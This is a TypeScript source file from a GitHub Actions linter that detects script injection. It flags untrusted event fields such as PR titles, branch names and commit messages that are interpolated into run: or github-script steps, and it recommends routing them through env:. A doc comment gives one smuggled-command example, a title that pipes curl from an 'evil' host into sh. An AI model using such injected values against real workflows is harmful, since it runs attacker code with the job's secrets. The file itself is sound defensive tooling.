import type { Node } from 'yaml';
import { expressionsIn } from '../expressions';
import { shown, type Finding } from '../finding';
import { findingAt, rawText, scalarText } from '../source';
import type { StepView, WorkflowView } from '../workflow';

/**
 * `${{ }}` of text anyone can write (a PR title, a branch name, a comment, a commit message), inside a script: `run:`,
 * or `actions/github-script`'s `script:`. The runner substitutes expressions into the script before the shell (or
 * node) reads it, so a title such as `x"; curl evil | sh; "` runs as code with the job's token and secrets. Passed
 * through `env:` and used as "$TITLE" (or `process.env.TITLE`), it stays data.
 */
export function checkRunInjection(view: WorkflowView): Finding[] {
  const { source } = view;
  const findings: Finding[] = [];
  for (const job of view.jobs) {
    for (const step of job.steps) {
      const sink = scriptOf(view, step);
      if (!sink) continue;
      const raw = rawText(source, sink.node);
      for (const expression of expressionsIn(raw.text)) {
        const field = untrustedField(expression.body);
        if (field === undefined) continue;
        const name = envName(field);
        const use = sink.kind === 'run' ? `"$${name}"` : `process.env.${name}`;
        findings.push(
          findingAt(
            source,
            raw.offset + expression.offset,
            'run-injection',
            `\`${shown(field)}\` is text anyone opening a PR, issue or comment can write, substituted into the ${sink.kind === 'run' ? 'script' : 'JavaScript'} before it runs: pass it through env: (${name}: \${{ ${shown(field)} }}) and use ${use}`,
          ),
        );
      }
    }
  }
  return findings;
}

const GITHUB_SCRIPT = /^actions\/github-script@/i;

/** The script a step runs with expressions substituted in: its `run:`, or github-script's `with: script:`. */
function scriptOf(view: WorkflowView, step: StepView): { kind: 'run' | 'github-script'; node: Node } | undefined {
  if (step.run?.value) return { kind: 'run', node: step.run.value };
  const uses = scalarText(view.source, step.uses?.value);
  if (uses === undefined || !GITHUB_SCRIPT.test(uses.trim())) return undefined;
  const script = step.with.find((e) => e.key === 'script')?.value;
  return script ? { kind: 'github-script', node: script } : undefined;
}

const INDEX = String.raw`(?:\.\*|\[[^\]]*\])`;
/**
 * The untrusted fields of the event payloads (GitHub's "Security hardening for GitHub Actions", "Understanding the
 * risk of script injections"): free text and names an outside contributor chooses.
 */
const UNTRUSTED = new RegExp(
  [
    String.raw`github\.head_ref`,
    String.raw`github\.event\.pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)`,
    String.raw`github\.event\.(?:issue|discussion)\.(?:title|body)`,
    String.raw`github\.event\.(?:comment|review|review_comment)\.body`,
    String.raw`github\.event\.pages${INDEX}\.page_name`,
    String.raw`github\.event\.commits${INDEX}\.(?:message|author\.(?:email|name))`,
    String.raw`github\.event\.head_commit\.(?:message|author\.(?:email|name))`,
    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))`,
    String.raw`github\.event\.workflow_run\.pull_requests${INDEX}\.head\.ref`,
    // The whole object serialized carries every field above.
    String.raw`toJSON\(\s*github\.event(?:\.(?:pull_request|issue|comment|review|review_comment|discussion|commits|head_commit|workflow_run))?\s*\)`,
  ]
    .map((pattern) => `(?<![\\w.])${pattern}(?![\\w-])`)
    .join('|'),
  'i',
);

/**
 * The untrusted field an expression reads, in dotted form. Property access by index with a literal name is the same
 * access (`github.event['pull_request']['title']` is `github.event.pull_request.title`), so it is folded into dots
 * before matching; the match ignores case, as GitHub does for property names.
 */
function untrustedField(expression: string): string | undefined {
  const dotted = expression.replace(/\s*\[\s*'([A-Za-z_][\w-]*)'\s*\]/g, '.$1');
  return UNTRUSTED.exec(dotted)?.[0];
}

/** An environment variable name for the suggestion: `github.event.pull_request.title` → `TITLE`. */
function envName(field: string): string {
  const last =
    field
      .replace(/\)\s*$/, '')
      .split(/[.[\]*()\s]+/)
      .filter((part) => part !== '')
      .pop() ?? 'VALUE';
  return last.replace(/\W/g, '_').toUpperCase();
}
